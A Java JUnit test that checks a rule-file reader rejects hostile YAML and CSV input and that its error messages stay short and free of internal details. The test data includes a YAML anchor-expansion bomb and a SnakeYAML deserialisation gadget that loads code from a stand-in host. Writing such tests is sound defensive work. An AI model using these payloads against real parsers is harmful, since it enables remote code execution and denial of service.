package fr.filrouge.rules;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** Hostile input 28: files of a folder, which nobody but the Region's own people can put there. */
@DisplayName("28. A hostile file of a folder is told, and the folder is not compiled:")
class HostileFoldersTest {

  private static final String YAML = "measures.yaml";
  private static final String CSV = "tables/vae.csv";

  static Stream<Arguments> yaml() {
    String bomb =
        IntStream.range(1, 30)
            .mapToObj(i -> "a%d: &a%d [*a%d, *a%d]\n".formatted(i, i, i - 1, i - 1))
            .collect(Collectors.joining("", "a0: &a0 [x]\n", ""));
    return Stream.of(
        Arguments.of("a bomb of anchors", YAML, bomb, StandardCharsets.UTF_8),
        Arguments.of("one key twice", YAML, "measures: []\nmeasures: []\n", StandardCharsets.UTF_8),
        Arguments.of(
            "a tag that makes an object",
            YAML,
            "measures: !!javax.script.ScriptEngineManager [!!java.net.URL [\"http://192.0.2.1\"]]\n",
            StandardCharsets.UTF_8),
        Arguments.of("a depth of 10 000", YAML, "[".repeat(10_000), StandardCharsets.UTF_8),
        Arguments.of(
            "a depth of 10 000 in a flow", YAML, "{a: ".repeat(10_000), StandardCharsets.UTF_8),
        Arguments.of("UTF-16", YAML, "measures: []\n", StandardCharsets.UTF_16),
        Arguments.of(
            "ten megabytes of one word", YAML, "x".repeat(10_000_000), StandardCharsets.UTF_8));
  }

  static Stream<Arguments> csv() {
    String text = Rules.FILES.text(CSV);
    return Stream.of(
        Arguments.of("an open quote", CSV, text + "\n\"ouvert;x\n", StandardCharsets.UTF_8),
        Arguments.of(
            "5 000 columns",
            CSV,
            text.replaceFirst("\n", ";x".repeat(5_000) + "\n"),
            StandardCharsets.UTF_8),
        Arguments.of("UTF-16", CSV, text, StandardCharsets.UTF_16),
        Arguments.of("a lone CR", CSV, text.replace(';', '\r'), StandardCharsets.UTF_8),
        Arguments.of(
            "ten thousand rows", CSV, text + "x;y\n".repeat(10_000), StandardCharsets.UTF_8),
        Arguments.of("NUL for each comma", CSV, text.replace(';', '\0'), StandardCharsets.UTF_8));
  }

  @ParameterizedTest(name = "{0} in {1}")
  @MethodSource({"yaml", "csv"})
  void told(String what, String file, String text, Charset charset) {
    Map<String, byte[]> files = new HashMap<>();
    Rules.FILES
        .texts()
        .forEach((name, own) -> files.put(name, own.getBytes(StandardCharsets.UTF_8)));
    files.put(file, text.getBytes(charset));

    Reading reading = RuleBookReader.read(new RuleFiles(files));

    List<Fault> faults = reading.faults();
    assertThat(faults).extracting(Fault::file).contains(file);
    assertThat(faults)
        .allSatisfy(
            fault ->
                assertThat(fault.message())
                    .hasSizeLessThan(2_000)
                    .doesNotContainPattern("Exception|snakeyaml|jackson|fr\\.filrouge|line \\d"));
  }
}
